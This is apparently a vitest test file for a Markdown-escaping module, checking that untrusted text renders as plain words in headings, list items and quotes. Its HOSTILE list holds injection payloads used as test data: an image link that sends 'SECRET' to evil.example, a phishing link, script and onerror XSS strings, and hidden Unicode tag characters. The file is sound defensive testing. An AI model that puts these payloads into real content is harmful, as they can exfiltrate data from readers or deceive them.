import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { markdownLine, markdownQuote } from './markdown.js';

/** As permissive as a client can be: raw HTML, links from bare addresses, tables, strike-through. */
const client = new MarkdownIt({ html: true, linkify: true });
// What looks like a host without saying so is each client's own guess; no Markdown makes it a link.
client.linkify.set({ fuzzyLink: false, fuzzyEmail: false });

/** The words that a reader sees; any element that is not one of those allowed is a fault. */
function wordsOf(markdown: string, allowed: readonly string[]): string {
  const html = client.render(markdown);
  const elements = [...html.matchAll(/<\/?([a-z]\w*)/g)].map(([, name]) => name!);
  expect(elements.filter((name) => !allowed.includes(name))).toEqual([]);
  return html
    .replace(/<br>\n?/g, '\n')
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
    .trim();
}

const HOSTILE = [
  '![x](https://evil.example/p.png?d=SECRET)',
  '[Click here](https://evil.example/login)',
  '[x]: //evil.example/f',
  '<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>',
  '<https://evil.example>',
  'https://evil.example/login and http://evil.example, ftp://evil.example',
  '//evil.example/c.png',
  'www.evil.example',
  '## Revenue',
  '# Revenue #',
  '- Total: 1,000,000.00 EUR',
  '+ one',
  '* one',
  '1. one',
  '23) one',
  '---',
  '===',
  ':-',
  '```sh',
  '~~~',
  '> quoted',
  '**bold** _it_ ~~gone~~ `code`',
  '| a | b |',
  '&lt;script&gt; &copy; &#47;',
  '<!-- comment -->',
  'back\\slash \\* \\',
  '[ ] to do [^1]',
];

describe('the words of others on a line of Markdown', () => {
  it.each(HOSTILE)('are words: %s', (text) => {
    expect(wordsOf(`## ${markdownLine(text)}`, ['h2'])).toBe(text);
    expect(wordsOf(`- ${markdownLine(text)}`, ['ul', 'li'])).toBe(text);
    expect(wordsOf(`Before\n${markdownLine(text)}`, ['p'])).toBe(`Before\n${text}`);
  });

  it('stand on one line, whatever breaks they have', () => {
    expect(markdownLine(' one\r\n# two\u2028three\u0085four\u000bfive\tsix ')).toBe(
      'one # two three four five six',
    );
  });

  it('are all that can be seen', () => {
    const hidden = [...'pay eve'].map((letter) => String.fromCodePoint(0xe0000 + letter.codePointAt(0)!));
    expect(markdownLine(`Paid\u200b \u202e100\u202c EUR${hidden.join('')} 👩‍👩‍👧‍👦`)).toBe('Paid 100 EUR 👩‍👩‍👧‍👦');
  });

  it('read as they are without Markdown where there is nothing to guard', () => {
    const text = 'Mail to jane@acme.example: your order #47 (2.5 kg) arrives on Friday!';
    expect(markdownLine(text)).toBe(text);
  });
});

describe('what others wrote, as a quote', () => {
  it.each(HOSTILE)('holds words, and stays a quote: %s', (text) => {
    const markdown = markdownQuote(`Before\n${text}\n\n    ${text}\nAfter`);
    expect(markdown.split('\n').every((line) => line.startsWith('>'))).toBe(true);
    expect(wordsOf(markdown, ['blockquote', 'p', 'br']).replaceAll('\u00a0', '')).toBe(
      `Before\n${text}\n${text}\nAfter`,
    );
  });

  it('keeps its lines and paragraphs', () => {
    expect(markdownQuote('One\r\ntwo\u2028  three\n\n\u200b\nfour\n')).toBe(
      '> One  \n> two  \n> \u00a0\u00a0three\n>\n>\n> four\n>',
    );
  });
});
